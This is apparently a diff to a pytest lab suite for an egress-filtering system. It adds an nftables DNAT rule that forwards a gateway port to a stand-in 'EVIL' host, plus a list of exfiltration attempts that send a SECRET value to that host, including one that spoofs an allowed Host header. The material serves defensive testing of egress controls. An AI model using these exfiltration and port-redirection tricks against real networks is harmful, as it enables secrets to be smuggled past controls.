@@ -3,8 +3,10 @@
 Each attack is also made by a job whose rule has no list, and succeeds there.
 """
 
+import subprocess
 import uuid
 from collections.abc import Iterator
+from contextlib import contextmanager
 
 import pytest
 
@@ -20,7 +22,7 @@ from tests.attacks.outside import (
     outside,
 )
 from tests.lab.engine import eventually
-from tests.lab.lab import Fleet
+from tests.lab.lab import GATEWAY, Fleet
 
 pytestmark = pytest.mark.lab
 
@@ -60,9 +62,29 @@ PY
 """
 
 
+DNAT = f"""
+table ip elsewhere {{
+  chain led {{
+    type nat hook prerouting priority dstnat; policy accept;
+    iifname "airlock0" ip daddr {GATEWAY} tcp dport 30080 dnat to {EVIL}:80
+  }}
+}}
+"""
+
+
+@contextmanager
+def led_elsewhere() -> Iterator[None]:
+    """Lead a port of this host to another one, as a load balancer's node port is."""
+    subprocess.run(["nft", "-f", "-"], input=DNAT, text=True, check=True)
+    try:
+        yield
+    finally:
+        subprocess.run(["nft", "delete", "table", "ip", "elsewhere"], check=True)
+
+
 @pytest.fixture(scope="module")
 def hosts(shared: Fleet) -> Iterator[Outside]:
-    with outside() as made:
+    with outside() as made, led_elsewhere():
         yield made
 
 
@@ -123,6 +145,7 @@ SENDS = {
     "the name of an allowed host in http": (
         f"tcp('{EVIL}', 80, b'GET /' + SECRET + b' HTTP/1.1\\r\\nHost: git.allowed.example\\r\\n')"
     ),
+    "a port of the host that leads elsewhere": f"tcp('{GATEWAY}', 30080, SECRET)",
     "a database of the vpc": f"tcp('{DATABASE}', 443, SECRET)",
 }
 
